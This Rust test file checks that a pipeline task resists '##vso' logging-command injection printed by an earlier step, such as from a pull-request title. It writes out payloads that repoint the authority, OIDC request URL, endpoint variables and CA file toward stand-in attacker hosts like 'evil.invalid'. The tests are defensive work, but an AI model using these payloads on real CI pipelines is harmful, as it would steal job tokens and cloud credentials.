//! What a printed line can do: a step prints texts that somebody else wrote, such as a pull request's title, and the agent
//! takes `##vso[…]` in them for commands. Then the task runs, and nothing may reach whoever wrote them.

use std::net::TcpListener;

use patless_emulator::agent::TaskResult;
use patless_emulator::{Emulator, Scenario};

use crate::job_environment::{CONNECTION, connection};
use crate::pipeline::{Played, play_on_agent};

/// The newest agent that is known, and the newest that lets a printed line move the job's own connection.
const AGENTS: [&str; 2] = ["5.278.0", "4.274.0"];
const WITHOUT_PROTECTION: &str = AGENTS[1];

/// A server of the attacker: an address on this machine that, to Patless, is a stranger.
struct Evil(TcpListener);

impl Evil {
    fn listen() -> Self {
        let listener = TcpListener::bind("0.0.0.0:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Self(listener)
    }

    fn port(&self) -> u16 {
        self.0.local_addr().unwrap().port()
    }

    /// Fails if anybody has opened a connection.
    fn assert_got_nothing(&self, what: &str) {
        let got = self.0.accept();
        assert!(got.is_err(), "{what}: somebody connected to the attacker");
    }
}

/// The command that changes a connection.
fn set_endpoint(id: &str, properties: &str, data: &str) -> String {
    format!("##vso[task.setendpoint id={id};{properties}]{data}")
}

/// The command that sets a variable.
fn set_variable(name: &str, value: &str) -> String {
    format!("##vso[task.setvariable variable={name}]{value}")
}

/// Plays a job whose first step prints these lines, and whose second is the task with these inputs beside its own.
fn play_behind(emulator: &Emulator, version: &str, lines: &[String], inputs: &str) -> Played {
    let folder = tempfile::tempdir().unwrap();
    let titles = folder.path().join("titles");
    std::fs::write(&titles, lines.join("\n") + "\n").unwrap();
    let file = folder.path().join("pipeline.yml");
    let yaml = format!(
        "steps:\n- bash: cat {}\n- task: Patless@1\n  inputs: {{ serviceConnection: {CONNECTION}, variable: T{inputs} }}\n",
        titles.display()
    );
    std::fs::write(&file, yaml).unwrap();
    play_on_agent(emulator, &file, version)
}

/// Fails unless the job was refused with this cause, and no server of the emulator got a request.
fn assert_refused(emulator: &Emulator, played: &Played, cause: &str) {
    assert_eq!(played.result, TaskResult::Failed, "{}", played.log);
    let error = played.first_error().unwrap();
    assert!(error.contains(cause), "{cause} is not in: {error}");
    assert!(emulator.requests().is_empty(), "{:?}", emulator.requests());
}

#[test]
fn a_printed_line_that_moves_the_authority_gets_no_assertion() {
    for version in AGENTS {
        for key in ["activeDirectoryAuthority", "environmentAuthorityUrl"] {
            let (emulator, evil) = (
                Emulator::start(Scenario::default()).unwrap(),
                Evil::listen(),
            );
            let id = connection(&emulator, CONNECTION).id.to_string();
            let move_to = |url: &str| {
                // The emulator's connection has the first key, which wins: the attacker takes it out of the way.
                [
                    set_endpoint(&id, "field=dataParameter;key=activeDirectoryAuthority", url),
                    set_endpoint(&id, &format!("field=dataParameter;key={key}"), url),
                ]
            };
            for url in [
                format!("https://0.0.0.0:{}/", evil.port()),
                format!("https://login.microsoftonline.com@0.0.0.0:{}/", evil.port()),
                // The emulator's own Entra, by a name that is a stranger's: there the assertion would be taken.
                format!(
                    "https://0.0.0.0:{}/",
                    emulator.authority_host().port().unwrap()
                ),
            ] {
                let played = play_behind(&emulator, version, &move_to(&url), "");
                assert_refused(&emulator, &played, "#foreign-authority");
                evil.assert_got_nothing(&url);
            }
        }
    }
}

#[test]
fn a_printed_line_that_names_a_stranger_by_its_name_gets_no_assertion() {
    let emulator = Emulator::start(Scenario::default()).unwrap();
    let id = connection(&emulator, CONNECTION).id.to_string();
    for url in [
        "https://evil.invalid/",
        "https://login.microsoftonline.com.evil.invalid/",
        "https://login.microsoftonline.com@evil.invalid/",
    ] {
        let key = "field=dataParameter;key=activeDirectoryAuthority";
        let played = play_behind(&emulator, AGENTS[0], &[set_endpoint(&id, key, url)], "");
        let error = played.first_error().unwrap();
        // Only the assertion could justify a host that is a full name: it was asked for, and went nowhere.
        assert!(error.contains("#foreign-authority"), "{error}");
        assert!(
            error.contains("evil.invalid, which is no authority host"),
            "{error}"
        );
        let requests = emulator.requests();
        assert!(requests.iter().all(|it| !it.path.contains("oauth2")));
    }
}

#[test]
fn with_diagnosis_a_moved_authority_gets_nothing_either() {
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let id = connection(&emulator, CONNECTION).id.to_string();
    let url = format!("https://0.0.0.0:{}/", evil.port());
    let key = "field=dataParameter;key=activeDirectoryAuthority";
    let lines = [set_endpoint(&id, key, &url)];
    let played = play_behind(&emulator, AGENTS[0], &lines, ", diagnose: true");
    assert_eq!(played.result, TaskResult::Failed, "{}", played.log);
    let error = played.first_error().unwrap();
    assert!(error.contains("#foreign-authority"), "{error}");
    evil.assert_got_nothing(&url);
}

#[test]
fn the_input_of_the_step_wins_over_a_printed_line() {
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let id = connection(&emulator, CONNECTION).id.to_string();
    let url = format!("https://0.0.0.0:{}/", evil.port());
    let key = "field=dataParameter;key=activeDirectoryAuthority";
    let input = format!(", authorityHost: '{}common'", emulator.authority_host());
    let played = play_behind(
        &emulator,
        AGENTS[0],
        &[set_endpoint(&id, key, &url)],
        &input,
    );
    assert_eq!(played.result, TaskResult::Succeeded, "{}", played.log);
    evil.assert_got_nothing(&url);
}

#[test]
fn the_system_connection_and_the_request_url_moved_together_get_no_job_token() {
    let system = "00000000-0000-0000-0000-000000000000";
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let own_port = emulator.azure_devops_url().port().unwrap();
    for port in [evil.port(), own_port] {
        let moved =
            |url: &str| url.replace(&format!("localhost:{own_port}"), &format!("0.0.0.0:{port}"));
        let collection = moved(emulator.azure_devops_url().as_str());
        let request = moved(emulator.oidc_request_uri().as_str());
        let lines = [
            set_endpoint(system, "field=url", &collection),
            set_variable("system.oidcRequestUri", &request),
            set_variable("system.taskDefinitionsUri", &collection),
        ];
        let played = play_behind(&emulator, WITHOUT_PROTECTION, &lines, "");
        assert_refused(&emulator, &played, "#foreign-host");
        evil.assert_got_nothing(&collection);
    }
}

#[test]
fn the_system_connection_moved_to_this_machine_gets_no_job_token() {
    let system = "00000000-0000-0000-0000-000000000000";
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let url = format!("http://127.0.0.1:{}/acme/", evil.port());
    let lines = [
        set_endpoint(system, "field=url", &url),
        set_variable("system.oidcRequestUri", &format!("{url}_apis/oidctoken")),
    ];
    let played = play_behind(&emulator, WITHOUT_PROTECTION, &lines, "");
    assert_refused(&emulator, &played, "#foreign-host");
    evil.assert_got_nothing(&url);
}

#[test]
fn a_request_url_alone_gets_no_job_token() {
    for version in AGENTS {
        let (emulator, evil) = (
            Emulator::start(Scenario::default()).unwrap(),
            Evil::listen(),
        );
        let url = format!("https://0.0.0.0:{}/acme/oidctoken", evil.port());
        for name in [
            "system.oidcRequestUri",
            "SYSTEM_OIDCREQUESTURI",
            "system oidcRequestUri",
        ] {
            let played = play_behind(&emulator, version, &[set_variable(name, &url)], "");
            assert_eq!(played.result, TaskResult::Failed, "{}", played.log);
            assert!(emulator.requests().is_empty(), "{name}");
            evil.assert_got_nothing(name);
        }
    }
}

#[test]
fn a_variable_in_the_place_of_what_a_task_is_given_is_refused() {
    let evil = Evil::listen();
    let url = format!("https://0.0.0.0:{}/", evil.port());
    let emulator = Emulator::start(Scenario::default()).unwrap();
    let id = connection(&emulator, CONNECTION).id;
    for name in [
        "ENDPOINT_URL_SYSTEMVSSCONNECTION".to_owned(),
        format!("endpoint.data.{id}.activeDirectoryAuthority"),
        "INPUT_AUTHORITYHOST".to_owned(),
        "input.authorityHost".to_owned(),
    ] {
        for version in AGENTS {
            let played = play_behind(&emulator, version, &[set_variable(&name, &url)], "");
            assert_refused(&emulator, &played, "takes the place of");
            evil.assert_got_nothing(&name);
        }
    }
}

#[test]
fn a_list_of_names_that_a_printed_line_made_up_hides_nothing() {
    let (emulator, evil) = (
        Emulator::start(Scenario::default()).unwrap(),
        Evil::listen(),
    );
    let url = format!("https://0.0.0.0:{}/acme/oidctoken", evil.port());
    for version in AGENTS {
        for list in ["VSTS_PUBLIC_VARIABLES", "vsts.public.variables"] {
            let lines = [
                set_variable(list, "[]"),
                set_variable("SYSTEM_OIDCREQUESTURI", &url),
            ];
            let played = play_behind(&emulator, version, &lines, "");
            assert_refused(&emulator, &played, "takes the place of");
            evil.assert_got_nothing(list);
        }
    }
}

#[test]
fn a_certificate_authority_from_the_sources_is_not_trusted() {
    let emulator = Emulator::start(Scenario::default()).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("pipeline.yml");
    let ca = emulator.ca_file().display();
    let play = |variables: &str, env: &str| {
        let yaml = format!(
            "steps:
- bash: |
    cp {ca} \"$AGENT_BUILDDIRECTORY/s/ca.pem\"
    {variables}
- task: Patless@1
  inputs: {{ serviceConnection: {CONNECTION}, variable: T }}
  env: {{ {env} }}
"
        );
        std::fs::write(&file, yaml).unwrap();
        play_on_agent(&emulator, &file, AGENTS[0])
    };
    let line =
        "echo \"##vso[task.setvariable variable=SSL_CERT_FILE]$AGENT_BUILDDIRECTORY/s/ca.pem\"";
    assert_refused(&emulator, &play(line, "A: b"), "#brought-authority");
    // The pipeline's own word counts.
    let own = play("true", "SSL_CERT_FILE: $(Agent.BuildDirectory)/s/ca.pem");
    assert_eq!(own.result, TaskResult::Succeeded, "{}", own.log);
}

#[test]
fn another_identity_in_the_connection_sends_the_assertion_to_entra_and_nowhere_else() {
    let emulator = Emulator::start(Scenario::default()).unwrap();
    let id = connection(&emulator, CONNECTION).id.to_string();
    let own_tenant = "9e2d4b60-1c7f-4a93-b5d8-6f0a3e9c7b99";
    let lines = [
        set_endpoint(&id, "field=authParameter;key=tenantid", own_tenant),
        set_endpoint(
            &id,
            "field=authParameter;key=serviceprincipalid",
            own_tenant,
        ),
    ];
    let played = play_behind(&emulator, AGENTS[0], &lines, "");
    assert_eq!(played.result, TaskResult::Failed, "{}", played.log);
    let error = played.first_error().unwrap();
    assert!(error.contains("AADSTS90002"), "{error}");
}
